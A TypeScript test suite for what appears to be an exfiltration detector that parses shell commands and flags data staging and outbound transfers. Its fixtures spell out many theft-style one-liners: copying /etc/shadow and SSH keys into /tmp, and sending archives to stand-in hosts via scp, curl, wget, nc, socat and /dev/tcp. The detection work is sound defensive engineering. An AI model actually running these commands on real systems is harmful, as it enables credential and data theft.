import { describe, expect, it } from 'vitest';
import { walkCommands } from './command-walk.ts';
import { parseCommandLine } from './shell-command.ts';
import { DEFAULT_STAGING_DIRS } from './staging.ts';

const walk = (lines: readonly string[], cwd: string | null = null) => walkCommands(lines, cwd, DEFAULT_STAGING_DIRS);
const stagedBy = (line: string, cwd: string | null = null) => walk([line], cwd).flatMap((s) => s.staged);
const transferOf = (line: string, cwd: string | null = null) => {
  const step = walk([line], cwd).find((s) => s.transfer !== null);
  return step ? { tool: step.transfer?.tool, host: step.transfer?.host, port: step.transfer?.port, sent: step.sent } : null;
};

describe('shell command reading', () => {
  it('splits pipelines and commands and keeps quoted words whole', () => {
    const pipelines = parseCommandLine(`cd /tmp && tar czf 'my loot.tgz' "/home/a b" | cat; echo done # comment`);
    expect(pipelines.map((p) => p.map((c) => c.argv))).toEqual([
      [['cd', '/tmp']],
      [['tar', 'czf', 'my loot.tgz', '/home/a b'], ['cat']],
      [['echo', 'done']],
    ]);
  });

  it('reads redirects with fd numbers and ignores descriptor duplication', () => {
    const [[command]] = parseCommandLine('mysqldump shop 2>/dev/null >> /tmp/db.sql 2>&1 < in.txt') as [[{ argv: string[]; redirects: unknown[] }]];
    expect(command.argv).toEqual(['mysqldump', 'shop']);
    expect(command.redirects).toEqual([
      { op: '>', fd: 2, target: '/dev/null' },
      { op: '>>', fd: null, target: '/tmp/db.sql' },
      { op: '<', fd: null, target: 'in.txt' },
    ]);
  });

  it('looks through sudo, env, nohup, timeout, assignments and sh -c wrappers', () => {
    const argv = (line: string) => parseCommandLine(line).map((p) => p.map((c) => c.argv[0]));
    expect(argv('sudo -u root /usr/bin/scp a b:c')).toEqual([['scp']]);
    expect(argv('LANG=C env -i X=1 nohup timeout 30 nc h 1')).toEqual([['nc']]);
    expect(argv(`bash -c "tar cf /tmp/x.tar /etc; sh -c 'curl -T /tmp/x.tar http://h'"`)).toEqual([['tar'], ['curl']]);
  });

  it('never throws on unbalanced quotes or stray operators', () => {
    expect(() => parseCommandLine(`echo "unterminated | && ;; > < >>`)).not.toThrow();
    expect(() => parseCommandLine('|||&&&;;;>>><<<')).not.toThrow();
  });
});

describe('staging recognition', () => {
  it.each([
    ['tar -czf /tmp/l.tgz /home', ['/tmp/l.tgz']],
    ['tar czf /var/tmp/x.tar.gz /etc', ['/var/tmp/x.tar.gz']],
    ['tar --create --file=/dev/shm/a.tar /root', ['/dev/shm/a.tar']],
    ['tar cf - /etc > /tmp/etc.tar', ['/tmp/etc.tar']],
    ['zip -r -P secret /tmp/w.zip /var/www', ['/tmp/w.zip']],
    ['7z a /tmp/k.7z /root/.ssh', ['/tmp/k.7z']],
    ['cp /etc/shadow /etc/passwd /dev/shm/', ['/dev/shm/shadow', '/dev/shm/passwd']],
    ['cp /etc/shadow /tmp', ['/tmp/shadow']],
    ['mv -t /tmp/stage /root/notes.txt', ['/tmp/stage/notes.txt']],
    ['rsync -a /home/ /tmp/h', ['/tmp/h']],
    ['dd if=/dev/sda of=/tmp/disk.img bs=1M', ['/tmp/disk.img']],
    ['mysqldump --all-databases > /tmp/all.sql', ['/tmp/all.sql']],
    ['cat /etc/shadow | gzip -c >> /tmp/s.gz', ['/tmp/s.gz']],
  ])('counts `%s` as staging %j', (line, paths) => {
    expect(stagedBy(line)).toEqual(paths);
  });

  it.each([
    ['tar xzf /tmp/l.tgz'],
    ['tar czf /home/me/l.tgz /etc'],
    ['cp /tmp/x /home/me/x'],
    ['echo hello > /tmp/x'],
    ['curl -o /tmp/tool.sh http://203.0.113.5/t.sh'],
    ['wget http://203.0.113.5/t.sh > /tmp/t.sh'],
    ['rsync -a /home/ backup@203.0.113.5:/srv/'],
    ['tar czf l.tgz /etc'],
  ])('does not count `%s` as staging', (line) => {
    expect(stagedBy(line)).toEqual([]);
  });

  it('resolves relative paths against cd and the event working directory', () => {
    expect(walk(['cd /tmp', 'tar czf l.tgz /etc']).flatMap((s) => s.staged)).toEqual(['/tmp/l.tgz']);
    expect(stagedBy('zip -r ../tmp/w.zip .', '/var')).toEqual(['/tmp/w.zip']);
    expect(walk(['cd /tmp', 'cd', 'tar czf l.tgz /etc']).flatMap((s) => s.staged)).toEqual([]);
  });
});

describe('transfer recognition', () => {
  it.each([
    ['scp -P 2222 /tmp/l.tgz me@203.0.113.5:/x', { tool: 'scp', host: '203.0.113.5', port: null, sent: ['/tmp/l.tgz'] }],
    ['rsync -avz -e "ssh -p 22" /tmp/stage/ drop.example:/srv', { tool: 'rsync', host: 'drop.example', port: null, sent: ['/tmp/stage'] }],
    ['curl -s -o /dev/null -T /tmp/l.tgz https://drop.example/u', { tool: 'curl', host: 'drop.example', port: null, sent: ['/tmp/l.tgz'] }],
    ['curl -F "file=@/tmp/l.tgz;type=x" http://198.51.100.2/up', { tool: 'curl', host: '198.51.100.2', port: null, sent: ['/tmp/l.tgz'] }],
    ['curl --data-binary @/tmp/db.sql drop.example', { tool: 'curl', host: 'drop.example', port: null, sent: ['/tmp/db.sql'] }],
    ['wget --post-file=/tmp/db.sql http://drop.example/', { tool: 'wget', host: 'drop.example', port: null, sent: ['/tmp/db.sql'] }],
    ['nc -w 3 198.51.100.2 4444 < /tmp/l.tgz', { tool: 'nc', host: '198.51.100.2', port: '4444', sent: ['/tmp/l.tgz'] }],
    ['cat /tmp/l.tgz | nc 198.51.100.2 4444', { tool: 'nc', host: '198.51.100.2', port: '4444', sent: ['/tmp/l.tgz'] }],
    ['socat FILE:/tmp/l.tgz TCP:198.51.100.2:443', { tool: 'socat', host: '198.51.100.2', port: '443', sent: ['/tmp/l.tgz'] }],
    ['tar cz /tmp/stage | ssh me@drop.example "cat > s.tgz"', { tool: 'ssh', host: 'drop.example', port: null, sent: ['/tmp/stage'] }],
    ['cat /tmp/l.tgz > /dev/tcp/198.51.100.2/8080', { tool: '/dev/tcp', host: '198.51.100.2', port: '8080', sent: ['/tmp/l.tgz'] }],
  ])('recognises `%s` as a transfer', (line, expected) => {
    expect(transferOf(line)).toMatchObject(expected);
  });

  it.each([
    ['scp me@203.0.113.5:/x /tmp/x'],
    ['curl -o /tmp/t.sh http://203.0.113.5/t.sh'],
    ['nc -lvp 4444 > /tmp/in'],
    ['nc 198.51.100.2 4444'],
    ['scp /tmp/l.tgz localhost:/backup'],
    ['curl -T /tmp/l.tgz http://127.0.0.1:8080/'],
    ['ssh me@drop.example uptime'],
  ])('does not count `%s` as a transfer out', (line) => {
    expect(transferOf(line)).toBeNull();
  });
});
